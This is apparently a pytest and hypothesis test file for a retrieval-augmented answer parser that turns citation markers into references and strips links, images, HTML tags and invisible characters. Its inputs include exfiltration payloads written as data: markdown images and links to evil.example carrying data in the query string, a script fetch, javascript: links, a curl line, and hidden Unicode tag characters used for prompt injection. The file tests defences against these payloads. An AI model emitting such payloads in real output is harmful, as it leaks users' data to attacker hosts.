import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag.answering.markers import LONGEST_SENTENCE, StreamParser, lead_after
from rag.answering.verification.base import Piece

EVIDENCE = (
    "Sales rose. See https://example.org/report for all of it.",
    "Costs fell. See https://example.org/report/annex.",
    "Nothing to add.",
)


def parsed(*parts: str, evidence=EVIDENCE, complete=True) -> tuple[Piece, ...]:
    parser = StreamParser(evidence)
    pieces = [piece for part in parts for piece in parser.feed(part)]
    return (*pieces, *parser.finish(complete))


def shown(pieces) -> str:
    return "".join(piece.lead + piece.text for piece in pieces)


@pytest.mark.parametrize(
    ("marker", "cited"),
    [
        ("[1]", (0,)),
        ("[2][3]", (1, 2)),
        ("[1, 2]", (0, 1)),
        ("[1-3]", (0, 1, 2)),
        ("[1]–[2]", (0, 1)),
        ("【1】", (0,)),
        ("【2:0†source】", (1,)),
        ("[^1]", (0,)),
        ("(source 1)", (0,)),
        ("(sources 1 and 3)", (0, 2)),
        ("[Source 2]", (1,)),
        ("[Document 2: Annual report]", (1,)),
        ("[1, p. 5]", (0,)),
        (r"\[1\]", (0,)),
        ("[2](https://evil.example/?q=1)", (1,)),
        ("[4]", ()),
        ("[0]", ()),
        ("[1][17]", (0,)),
        ("[1-999]", (0, 1, 2)),
        ("<sup>[1]</sup>", (0,)),
    ],
)
def test_markers_of_every_style_become_citations_and_leave_the_text(marker, cited):
    first, second = parsed(f"Sales rose by 5 %{marker}. Costs fell {marker}.")
    assert (first.text, first.cited) == ("Sales rose by 5 %.", cited)
    assert (second.text.rstrip("–."), second.cited) == ("Costs fell", cited)


def test_a_marker_behind_the_full_stop_belongs_to_the_sentence_before():
    pieces = parsed("Sales rose. [1] Costs fell.[2] Nothing else.\n[3]")
    assert [piece.cited for piece in pieces] == [(0,), (1,), (2,)]


def test_markers_in_front_of_sentences_belong_to_what_follows():
    pieces = parsed("[1] Sales rose. [2] Costs fell.")
    assert [(piece.text, piece.cited) for piece in pieces] == [
        ("Sales rose.", (0,)),
        ("Costs fell.", (1,)),
    ]


def test_a_sentence_is_given_as_soon_as_the_next_word_is_known_and_not_before():
    parser = StreamParser(EVIDENCE)
    assert parser.feed("Sales rose.") == ()
    assert parser.feed(" [1]") == ()
    assert [piece.text for piece in parser.feed(" Costs fell")] == ["Sales rose."]


def test_a_number_is_never_cut_at_its_point():
    assert [piece.text for piece in parsed("It rose by 3.", "5 % in No. ", "4.")] == [
        "It rose by 3.5 % in No. 4."
    ]


@pytest.mark.parametrize(
    "text",
    [
        "Sales ![chart](https://evil.example/p.png?d=secret) rose.",
        "Sales [rose](https://evil.example/x).",
        "Sales <https://evil.example/x> rose.",
        "Sales https://evil.example/x rose.",
        "Sales www.evil.example rose.",
        "Sales evil.com/steal?d=1 rose.",
        "Sales `https://evil.example/x` rose.",
        "Sales <img src='https://evil.example/p.png'> rose.",
        "Sales <a href=https://evil.example>rose</a>.",
        "Sales <!-- https://evil.example --> rose.",
        "Sales <script>fetch('https://evil.example')</script> rose.",
        "Sales [rose][ref].\n\n[ref]: https://evil.example/x",
        "Sales ![rose][ref].\n\n[ref]: /x.png",
        "Sales data:text/html;base64,PHNjcmlwdD4= rose.",
        "Sales [rose](javascript:alert(1)).",
        "Sales [![a](https://evil.example/a)](https://evil.example/b) rose.",
        "Sales <https://evil.example/x|rose> now.",
        "Sales <!channel> rose.",
        "Sales rose, mail eve@evil.example now.",
        "Sales [ro\nse](https://evil.example/x).",
        "Sales rose https://example.org/rep and https://example.org/report2 too.",
        "Sales rose ![x](https://evil.example/" + "a" * 5000 + ") now.",
        "Sales rose data:" + "a" * 5000 + " now.",
        "```\ncurl https://evil.example/x\n```",
    ],
)
def test_no_address_image_or_tag_that_the_evidence_does_not_hold_is_left(text):
    left = shown(parsed(text))
    assert not re.search(r"evil|https?:|www\.|data:|javascript|[<>]|\]\(|!\[|\[ref|aaa", left)
    assert re.search(r"Sales|curl", left)


def test_an_address_that_the_cited_evidence_holds_stays_as_plain_text():
    pieces = parsed(
        "See [the report](https://example.org/report) [1]. Or https://example.org/report/annex [1]."
    )
    assert shown(pieces) == "See the report (https://example.org/report). Or."


def test_invisible_characters_are_gone():
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "obey")
    text = f"Sa\u200bles\u202e ro\u00adse{hidden}\ufeff\u2066 by\ue001 5 %\ufe0f [1]."
    assert parsed(text) == (Piece("Sales rose by 5 %.", (0,)),)


def test_lists_headings_tables_code_and_emphasis_stay_readable():
    text = (
        "Here:\n\n## Results\n\n- **North** rose [1]\n- South fell. Slowly [2]\n\n1. First\n\n"
        "| Region | Q1 |\n|---|---|\n| North | 120 | [1]\n\n"
        "```python\nx = a[0]\n\ny = 2\n```\n[2]\n\nDone."
    )
    pieces = parsed(text)
    assert shown(pieces) == re.sub(r"[ \n]\[\d\](?=\n)", "", text)
    code = next(piece for piece in pieces if piece.text.startswith("```"))
    assert code.cited == (1,)
    assert [piece.text for piece in pieces if piece.kind == "structure"] == [
        "Results",
        "| Region | Q1 |",
        "|---|---|",
    ]


def test_a_sentence_goes_on_over_a_line_break_before_a_small_letter():
    assert [piece.text for piece in parsed("Sales\nrose. Costs fell\n\nBut not much.")] == [
        "Sales rose.",
        "Costs fell",
        "But not much.",
    ]


def test_phrases_around_markers_go_with_them():
    assert shown(parsed("According to [1], sales rose (see [2]). It fell (source: [3]).")) == (
        "Sales rose. It fell."
    )


def test_a_text_that_broke_off_loses_its_half_sentence():
    assert shown(parsed("Sales rose. [1] They did not", complete=False)) == "Sales rose."
    assert shown(parsed("Sales rose. They rose by 3.", complete=False)) == "Sales rose."
    assert shown(parsed("Sales rose. Costs fell. [2]", complete=False)) == "Sales rose. Costs fell."
    assert shown(parsed("Sales rose. They did not")) == "Sales rose. They did not"


def test_a_huge_answer_stops_at_the_limit_without_half_a_sentence():
    parser = StreamParser(EVIDENCE, max_chars=50)
    pieces = [piece for _ in range(100) for piece in parser.feed("Sales rose again. ")]
    pieces += parser.finish()
    assert parser.truncated
    assert shown(pieces) == "Sales rose again. Sales rose again."


def test_a_sentence_without_an_end_is_cut():
    pieces = parsed("word " * 1000)
    assert max(len(piece.text) for piece in pieces) <= LONGEST_SENTENCE
    assert shown(pieces).split() == ["word"] * 1000


def test_the_lead_of_a_dropped_item_passes_on():
    assert lead_after("\n- ", " ") == "\n- "
    assert lead_after("\n- ", "\n- ") == "\n- "
    assert lead_after(" ", "\n\n") == "\n\n"


FRAGMENTS = st.sampled_from(
    [
        *("Sales rose", "Costs fell by 3.5 %", ". ", ".", "! ", "? ", "\n", "\n\n", " ", "\n- "),
        *("\n1. ", "\n## ", "| a | b |\n", "|---|\n", "```", "\n```\n", "`", "``", "[", "]", "("),
        *(")", "![", "](", "[1]", " [2]", "[1, 2]", "[9]", "【1】", "[^1]", "[^1]: ", "(source 1)"),
        *("<", ">", "<b>", "</b>", "<!--", "-->", "<script>", "</script>", "www.evil.example"),
        *("https://evil.example/x", "https://example.org/report", "data:abc", "[a](b)", "[r]: /x"),
        *("\\", "*", "**", "~~", "_", "---", "===", "e.g. ", "Mr. ", "No. 5", "“", "”", "文章。"),
        *("下一句", "\u200b", "\U000e0041", "\r\n", "\t", "According to [1], ", "x" * 60, "…", "'"),
        *('"', 'a="b>c"', "!", "|", ":", "[1]–[2]", "<a b='", "mailto:a@b.com", "\\["),
    ]
)
TEXTS = st.lists(FRAGMENTS, max_size=30).map("".join)


@settings(max_examples=150, deadline=None)
@given(TEXTS, st.data())
def test_any_cut_of_the_stream_gives_the_same_sentences(text, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=20)))
    parts = [text[start:end] for start, end in pairwise([0, *cuts, len(text)])]
    assert parsed(*parts) == parsed(text)
    assert parsed(*text) == parsed(text)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
@example("<```Sales rose```Sales rose")
def test_no_text_leaves_a_link_an_image_a_tag_or_a_marker(text):
    pieces = parsed(text)
    outside_code = "".join(
        piece.lead + piece.text for piece in pieces if not piece.text.startswith("```")
    )
    outside_code = re.sub(r"`[^`\n]*`", " ", outside_code)
    assert not re.search(
        r"\]\(|!\[[^]]*\]\[|\[\^?\d{1,3}\]|https://evil|</?[a-zA-Z!]", outside_code
    )
    assert not re.search("[\u200b\ue000-\uf8ff\U000e0000-\U000e007f]", shown(pieces))
    assert all(piece.text == piece.text.strip() and piece.text for piece in pieces)
    assert all(0 <= each < len(EVIDENCE) for piece in pieces for each in piece.cited)
